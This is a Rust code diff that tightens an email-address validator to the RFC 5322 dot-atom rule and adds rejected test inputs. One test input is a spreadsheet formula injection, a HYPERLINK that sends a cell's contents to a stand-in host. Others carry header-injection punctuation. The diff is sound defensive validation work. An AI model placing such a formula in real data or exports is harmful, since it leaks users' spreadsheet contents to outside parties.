@@ -60,7 +60,7 @@ pub fn plausible_email(email: Option<&str>) -> bool {
     }
     match e.split_once('@') {
         Some((local, domain)) => {
-            !local.is_empty()
+            dot_atom(local)
                 && local.len() <= 64
                 && !domain.contains('@')
                 && domain.contains('.')
@@ -69,6 +69,18 @@ pub fn plausible_email(email: Option<&str>) -> bool {
         }
         None => false,
     }
+}
+
+/// An unquoted local part as RFC 5322 allows it (`dot-atom`: atext in runs joined by single
+/// dots), with RFC 6531's non-ASCII characters: no `"`, `(`, `)`, `,`, `:`, `;`, `<`, `>`,
+/// `[`, `\\`, `]` — what a spreadsheet formula or a header injection needs.
+fn dot_atom(local: &str) -> bool {
+    let atext =
+        |c: char| c.is_ascii_alphanumeric() || "!#$%&'*+-/=?^_`{|}~".contains(c) || !c.is_ascii();
+    !local.is_empty()
+        && local
+            .split('.')
+            .all(|run| !run.is_empty() && run.chars().all(atext))
 }
 
 /// `c` as an error line names it: escaped, with its code point (`'\n' (U+000A)`).
@@ -96,9 +108,18 @@ mod tests {
             "a@b@c.d",
             "a@.com",
             long.as_str(),
+            // What RFC 5322 does not allow unquoted: a formula, a header's punctuation.
+            "=HYPERLINK(\"http://e.x/?\"&A3)&\"@x.y",
+            "a,b@example.com",
+            "a;b@example.com",
+            "<a>@example.com",
+            "a..b@example.com",
+            ".a@example.com",
+            "a.@example.com",
         ] {
             assert!(!plausible_email(Some(bad)), "{bad:?}");
         }
+        assert!(plausible_email(Some("o'brien+x=y@example.com")));
         assert!(!plausible_email(None));
     }
 
